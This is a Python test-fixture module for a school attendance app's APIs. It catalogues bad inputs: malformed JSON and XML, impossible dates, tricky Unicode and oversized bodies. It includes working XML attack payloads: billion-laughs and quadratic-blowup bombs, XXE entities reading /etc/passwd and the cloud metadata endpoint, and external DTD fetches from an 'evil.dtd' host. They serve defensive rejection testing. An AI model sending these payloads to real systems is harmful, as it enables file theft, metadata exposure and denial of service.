"""What the bad-input catalogues of the four dialects share: a snapshot of every table an API
may write, the bad bodies every dialect is sent, and the Unicode notes that must round-trip."""

from __future__ import annotations

import json
from contextlib import contextmanager

from django.conf import settings

from apps.audit.models import AuditEntry
from apps.classes.models import ClassMark
from apps.excusals.models import Excusal
from apps.homeroom.models import DailyMark, TimeEntry

WRITTEN_BY_APIS = (ClassMark, DailyMark, TimeEntry, Excusal, AuditEntry)


def snapshot() -> dict[str, list[dict]]:
    """Every row (every column) of the tables an API may write."""
    return {model.__name__: list(model.objects.order_by("pk").values()) for model in WRITTEN_BY_APIS}


@contextmanager
def nothing_changes():
    """The block leaves the marks, time entries, excusals and the audit log exactly as they were."""
    before = snapshot()
    yield
    after = snapshot()
    assert after == before, {name: len(rows) for name, rows in after.items()}


# --- bodies ------------------------------------------------------------------------------------

MALFORMED_JSON = {
    "truncated": b'{"attendances": [',
    "trailing comma": b'{"a": 1,}',
    "single quotes": b"{'a': 1}",
    "NaN": b'{"a": NaN}',
    "Infinity": b'{"a": Infinity}',
    "not UTF-8": b'{"a": "\xff\xfe"}',
    "only whitespace": b"   ",
    "XML sent as JSON": b"<result><a>1</a></result>",
    "deeply nested arrays": b"[" * 100_000 + b"]" * 100_000,
    "deeply nested objects": b'{"a":' * 50_000 + b"1" + b"}" * 50_000,
}

# Bodies that are JSON but not an object.
NOT_AN_OBJECT = {
    "list": [],
    "string": "attendances",
    "number": 7,
    "null": None,
    "true": True,
}

XML_DECLARATION = '<?xml version="1.0" encoding="utf-8"?>\n'
BILLION_LAUGHS = (
    XML_DECLARATION
    + "<!DOCTYPE lolz [\n"
    + '  <!ENTITY lol "lol">\n'
    + "".join(f'  <!ENTITY lol{i} "{f"&lol{i - 1};" * 10 if i > 1 else "&lol;" * 10}">\n' for i in range(1, 10))
    + "]>\n<result><attendances><attendance><comment>&lol9;</comment></attendance></attendances></result>"
)
QUADRATIC_BLOWUP = (
    XML_DECLARATION
    + f'<!DOCTYPE r [<!ENTITY a "{"x" * 50_000}">]>\n'
    + "<result><attendances><attendance><comment>"
    + "&a;" * 5_000
    + "</comment></attendance></attendances></result>"
)
XXE_FILE = (
    XML_DECLARATION
    + '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    + "<result><attendances><attendance><comment>&xxe;</comment></attendance></attendances></result>"
)
XXE_URL = (
    XML_DECLARATION
    + '<!DOCTYPE r [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]>\n'
    + "<result><attendances><attendance><comment>&xxe;</comment></attendance></attendances></result>"
)
EXTERNAL_DTD = XML_DECLARATION + '<!DOCTYPE result SYSTEM "http://example.org/evil.dtd">\n<result />'
PARAMETER_ENTITY = (
    XML_DECLARATION + '<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://example.org/evil.dtd"> %remote;]>\n<result />'
)
XML_BOMBS = {
    "billion laughs": BILLION_LAUGHS,
    "quadratic blowup": QUADRATIC_BLOWUP,
    "external entity (file)": XXE_FILE,
    "external entity (URL)": XXE_URL,
    "external DTD": EXTERNAL_DTD,
    "parameter entity": PARAMETER_ENTITY,
}
MALFORMED_XML = {
    "unclosed": "<result><attendances>",
    "mismatched tags": "<result><a></b></result>",
    "two roots": "<result /><result />",
    "text only": "attendances",
    "JSON sent as XML": '{"attendances": {"attendance": []}}',
    "wrong encoding": '<?xml version="1.0" encoding="utf-16"?><result />',
    "NUL character": "<result>\x00</result>",
    "deeply nested": "<a>" * 100_000 + "</a>" * 100_000,
}

IMPOSSIBLE_DATES = {
    "February 30th": "2026-02-30",
    "year zero": "0000-01-01",
    "five-digit year": "99999-01-01",
    "a word": "yesterday",
    "empty": "",
    "a time zone": "2026-02-02+25:00",
    "a timestamp with junk zone": "2026-02-02T08:00:00+99:99",
    "month 13": "2026-13-01",
    "US order": "02/02/2026",
    "negative year": "-2026-02-02",
    "NUL in a date": "2026-02-02\x00",
    "superscript digits": "²⁰²⁶-⁰²-⁰²",
}

# Real dates, but none a school keeps: Rollbook takes 1900-01-01 to 2200-12-31 (apps/school/dates.py).
OUT_OF_RANGE_DATES = {
    "the year 1": "0001-01-01",
    "the day before 1900": "1899-12-31",
    "the day after 2200": "2201-01-01",
    "the last day Python has": "9999-12-31",
}
RANGE_MESSAGE = "must be between 1900-01-01 and 2200-12-31"

# Notes that must come back exactly as they were sent.
UNICODE_NOTES = {
    "emoji": "Ill 🤒 – back on Monday 👍🏽",
    "right to left": "מחלה — غائب بسبب المرض",
    "combining marks": "Zoe\u0308 e\u0301te\u0301 n\u0303",
    "4-byte characters": "𝒜𝓉𝓉𝑒𝓃𝒹𝒶𝓃𝒸𝑒 𠜎𠜱𠝹",
    "zero-width joiner": "👩‍👩‍👧‍👦 family trip",
    "bidi override": "\u202eevil\u202c text",
}


# Text no database column can hold: PostgreSQL refuses NUL in text, and a lone surrogate is not
# UTF-8 at all (JSON can carry both as \u escapes).
UNSTORABLE_TEXT = {
    "NUL": "Ill\x00",
    "lone surrogate": "Ill \ud800",
}


def oversized_json(field: str = "padding") -> bytes:
    """A JSON object one byte over the largest body the server reads into memory."""
    limit = settings.DATA_UPLOAD_MAX_MEMORY_SIZE
    head = json.dumps({field: ""}).encode()
    return head[:-2] + b"x" * (limit - len(head) + 3) + head[-2:]
